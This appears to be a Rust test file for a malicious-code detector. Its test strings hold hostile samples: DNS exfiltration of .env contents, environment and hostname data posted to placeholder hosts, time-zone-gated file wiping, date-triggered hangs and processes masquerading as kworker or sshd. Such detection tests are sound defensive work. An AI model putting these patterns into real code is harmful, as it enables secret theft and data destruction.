//! What is lost and what is told: files of somebody, loops without an end, settings in names, and programs that show under
//! another name; over the files of small packages, too.

use super::reached::{has, has_not};
use super::*;
use crate::analyze::script::How;
use crate::model::FileKind;
use crate::parse::script::Language::{Go, JavaScript, Lua, Php, Python};

/// What a small package does, followed from its first file.
fn among(files: &[(&str, FileKind, &str)]) -> Vec<&'static str> {
    super::recreated::among(files, How { called: true, all: true, is_install: false, is_plain: true })
}

#[test]
fn the_first_of_a_list_of_lua_has_the_number_one() {
    let cases = [
        "local t = { 'ls', 'echo hi' }\nos.execute(t[2])",
        "local t = {}\nt[1] = 'echo'\nt[2] = 'hi'\nos.execute(table.concat(t, ' '))",
        "local t = {}\nfor _, w in ipairs({ 'echo', 'hi' }) do t[#t + 1] = w end\nos.execute(table.concat(t, ' '))",
        "local function of(t, by)\n  local out = {}\n  for i, v in ipairs(t) do\n    out[i] = string.char(v - by)\n  end\n  return table.concat(out)\nend\n\
         local s = { { 1, 2 }, { 102, 100, 105, 112, 33, 105, 106 } }\nos.execute(of(s[2], 1))",
    ];
    for code in cases {
        assert_eq!(command(Lua, code), "echo hi", "{code}");
    }
    assert_eq!(command(Lua, "local t = { 'a' }\nos.execute((t[0] or 'none'))"), "none");
}

#[test]
fn what_stands_in_for_an_answer_is_not_the_answer() {
    let code = |end: &str| {
        format!(
            "const fs = require('fs/promises');\nasync function go() {{ for (const e of await fs.readdir('/srv'){end}) await fs.writeFile('/srv/' + e, 'x'); }}\ngo();"
        )
    };
    for end in ["", ".catch(() => [])", ".finally(() => 1)"] {
        let outcome = outcome(JavaScript, &code(end));
        assert!(event(&outcome, Act::Write).of.any(Labels::LISTED), "{end}");
    }
    assert_eq!(
        command(JavaScript, "require('child_process').exec(Promise.resolve('ls').then(() => 'echo hi'))"),
        "echo hi"
    );
}

#[test]
fn a_program_may_show_under_another_name() {
    let cases = [
        "import os\nos.execv('/bin/echo', ['[kworker/0:1]', 'hi'])",
        "import os\nos.execl('/bin/echo', 'systemd', 'hi')",
        "import os\nos.spawnv(os.P_NOWAIT, '/bin/echo', ['sshd', 'hi'])",
    ];
    for code in cases {
        assert_eq!(command(Python, code), "/bin/echo hi", "{code}");
    }
}

#[test]
fn settings_with_secrets_leave_in_names() {
    let php = |file: &str| {
        format!(
            "<?php\n$lines = @file($root . '/{file}');\nforeach (str_split(bin2hex(implode(',', $lines)), 50) as $part) {{ dns_get_record($part . '.q.example.invalid', DNS_TXT); }}"
        )
    };
    has(Php, &php(".env"), "flow-dns-exfiltration");
    has_not(Php, &php("hosts.txt"), "flow-dns-exfiltration");
}

#[test]
fn loops_without_an_end_hang_whoever_loads_them() {
    for code in [
        "for (let i = 7; i < Infinity; i++) { console.log('a'.repeat(i)); }",
        "while (true) { console.log('no'); }",
        "for (;;) { }",
    ] {
        has(JavaScript, code, "flow-hangs");
    }
    for code in [
        "while (true) { if (done()) break; }",
        "for (;;) { const line = readline.question('? '); run(line); }",
        "async function f() { for (;;) { await next(); } }\nf();",
        "function* g() { for (let i = 0; i < Infinity; i++) { yield i; } }\ng();",
        "exports.spin = () => { while (true) { tick(); } };",
        "function f() { for (;;) { switch (next()) { case 1: return 2; } } }\nf();",
        "while (true) { Atomics.wait(a, 0, 0); work(); }",
    ] {
        has_not(JavaScript, code, "flow-hangs");
    }
    let somewhere = |ask: &str| {
        format!(
            "import time, datetime\ndef f(x):\n    if datetime.date.today() < DAY or {ask}:\n        return 0\n    while True:\n        x = x * x % 7\n"
        )
    };
    let outcome = python(&somewhere("time.tzname[0] not in ZONES"));
    assert!(flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-hangs" && f.certain));
    has_not(Python, &somewhere("x == 3"), "flow-hangs");
    has_not(Python, "while True:\n    server.handle()\n", "flow-hangs");
}

#[test]
fn files_are_written_over_where_the_user_is() {
    let code = |test: &str| {
        format!(
            "const fs = require('fs');\nfunction f(zone) {{\n  if ({test}) return;\n  for (const e of fs.readdirSync('/srv')) {{ fs.writeFileSync('/srv/' + e, 'x'); fs.unlinkSync('/srv/' + e); }}\n}}\n\
             f(Intl.DateTimeFormat().resolvedOptions().timeZone);"
        )
    };
    has(JavaScript, &code("zone !== 'Mars/Base'"), "flow-overwrites");
    has_not(JavaScript, &code("process.argv.length < 3"), "flow-overwrites");
}

#[test]
fn what_a_framework_boots_runs_with_the_program() {
    let provider = |base: &str| {
        format!(
            "<?php\nnamespace Q;\nuse Illuminate\\Support\\{base};\nclass P extends {base} {{\n  public function boot(): void {{ $this->app->make(Told::class)->tell(); }}\n}}"
        )
    };
    let told = "<?php\nnamespace Q;\nclass Told {\n  public function tell() { @file_get_contents('https://c.example.invalid/?' . http_build_query(getenv())); }\n}";
    let of =
        |base: &str| among(&[("src/P.php", FileKind::Php, &provider(base)), ("src/Told.php", FileKind::Php, told)]);
    assert!(of("ServiceProvider").contains(&"flow-environment-sent"));
    let first = outcome(
        Php,
        &provider("ServiceProvider").replace("$this->app->make(Told::class)->tell()", "system('echo hi')"),
    );
    assert_eq!(event(&first, Act::Run).when, When::Load);
    let other = outcome(Php, &provider("Facade").replace("$this->app->make(Told::class)->tell()", "system('echo hi')"));
    assert_eq!(event(&other, Act::Run).when, When::Called);
}

#[test]
fn files_of_a_folder_are_one_package_of_go() {
    let sends = "package diag\nimport (\n\t\"bytes\"\n\t\"net/http\"\n)\nfunc Send() {\n\thttp.Post(\"https://c.example.invalid/a\", \"text/plain\", bytes.NewBufferString(block()))\n}\n";
    let takes = |what: &str| {
        format!(
            "package diag\nimport (\n\t\"os\"\n\t\"strings\"\n)\nfunc block() string {{ return strings.Join({what}, \",\") }}\n"
        )
    };
    let told = |what: &str| {
        among(&[("diag/send.go", FileKind::OtherSource, sends), ("diag/take.go", FileKind::OtherSource, &takes(what))])
    };
    assert!(told("os.Environ()").contains(&"flow-environment-sent"));
    assert!(told("os.Args").is_empty());
    assert!(rules(Go, sends).iter().all(|r| *r != "flow-environment-sent"));
}

#[test]
fn a_query_of_ruby_is_part_of_its_address() {
    let code = |what: &str| {
        format!(
            "require 'net/http'\nrequire 'socket'\nuri = URI('http://c.example.invalid/f')\nuri.query = URI.encode_www_form('n' => {what})\nNet::HTTP.start(uri.host, uri.port) {{ |h| h.get(uri.request_uri) }}"
        )
    };
    let told = outcome(Language::Ruby, &code("Socket.gethostname + Etc.getlogin"));
    assert!(event(&told, Act::Send).data.any(Labels::HOSTNAME));
    let plain = outcome(Language::Ruby, &code("'4'"));
    assert!(plain.events.iter().all(|e| e.act != Act::Send));
}

#[test]
fn a_constructor_of_php_keeps_what_it_is_handed() {
    let cases = [
        "<?php class A { public function __construct(private string $x, readonly int $n = 1) {} function go() { system($this->x); } } (new A('echo hi'))->go();",
        "<?php class A { private string $x; public function __construct(string $x) { $this->x = $x; } function go() { system($this->x); } } (new A('echo hi'))->go();",
    ];
    for code in cases {
        assert_eq!(command(Php, code), "echo hi", "{code}");
    }
}

#[test]
fn what_writers_of_go_pack_lands_in_the_buffer() {
    let code = |what: &str| {
        format!(
            "package q\nimport (\n\t\"bytes\"\n\t\"compress/gzip\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n)\nfunc Send() {{\n\tvar b bytes.Buffer\n\tz := gzip.NewWriter(&b)\n\tjson.NewEncoder(z).Encode({what})\n\tz.Close()\n\thttp.Post(\"https://c.example.invalid/a\", \"text/plain\", &b)\n}}\n"
        )
    };
    has(Go, &code("os.Environ()"), "flow-environment-sent");
    has_not(Go, &code("os.Args"), "flow-environment-sent");
}
